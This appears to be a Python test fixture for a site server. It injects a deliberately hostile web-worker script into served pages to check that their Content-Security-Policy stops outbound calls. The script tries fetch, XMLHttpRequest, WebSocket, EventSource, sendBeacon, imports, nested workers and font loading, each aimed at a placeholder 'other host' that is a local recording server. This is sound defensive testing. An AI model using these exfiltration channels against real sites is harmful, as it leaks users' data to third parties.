"""A worker that tries to call out in every way that a browser knows, before any fence is up.

Python in the worker can do whatever a script there can. So the script is hostile itself: what it cannot
do, Python cannot either.
"""

import http.server
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from site_server import Answer, Behaviour

WAYS = (
    "fetch",
    "XMLHttpRequest",
    "WebSocket",
    "EventSource",
    "sendBeacon",
    "import",
    "nested worker",
    "worker of another host",
    "font",
)
"""How it tries, by the path that it asks for."""

ATTACK = """
(() => {
    const to = (way) => "OTHER" + encodeURIComponent(way);
    const nested = (way) => URL.createObjectURL(new Blob([`fetch("${to(way)}", { mode: "no-cors" })`]));
    const ways = {
        fetch: (at) => fetch(at, { mode: "no-cors" }),
        XMLHttpRequest: (at) => {
            const request = new XMLHttpRequest();
            request.open("POST", at);
            request.send("secret");
        },
        WebSocket: (at) => new WebSocket(at.replace("http", "ws")),
        EventSource: (at) => new EventSource(at),
        sendBeacon: (at) => navigator.sendBeacon(at, "secret"),
        import: (at) => import(at),
        "nested worker": (at, way) => new Worker(nested(way)),
        "worker of another host": (at) => new Worker(at, { type: "module" }),
        font: (at) => new FontFace("other", `url(${at})`).load(),
    };
    const tried = [];
    for (const [way, attempt] of Object.entries(ways)) {
        tried.push(way);
        try { Promise.resolve(attempt(to(way), way)).catch(() => {}); } catch {}
    }
    setTimeout(() => new BroadcastChannel("attack").postMessage(tried), 1500);
})();
"""

HEAR = "<script>new BroadcastChannel('attack').onmessage = ({ data }) => { self.tried = data; };</script>"
"""For the pages, before their policy, which runs no such script."""

POLICY = 'http-equiv="Content-Security-Policy"'


@contextmanager
def other_host() -> Iterator[tuple[str, list[str]]]:
    """Yield the address of another host, and the paths that it is asked for."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def handle(self) -> None:
            line = self.rfile.readline().decode("latin-1")
            asked.append(line.split(" ")[1].lstrip("/") if " " in line else line)

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://localhost:{server.server_port}/", asked
    server.shutdown()
    server.server_close()


def with_hostile_worker(other: str, *, has_policy: bool = True) -> Behaviour:
    """Return a host whose worker attacks another one; its pages have their policy, or none."""

    def behave(_name: str, file: Path) -> Answer | None:
        if not file.is_file():
            return None
        text = file.read_text("utf-8") if file.suffix in {".html", ".js"} else ""
        if file.name == "worker.js":
            attack = ATTACK.replace("OTHER", other)
            return Answer(200, (attack + text).encode(), {"Content-Type": "text/javascript"})
        if file.suffix == ".html":
            page = text.replace("<head>", f"<head>{HEAR}", 1)
            page = page if has_policy else page.replace(POLICY, "", 1)
            return Answer(200, page.encode(), {"Content-Type": "text/html; charset=utf-8"})
        return None

    return behave
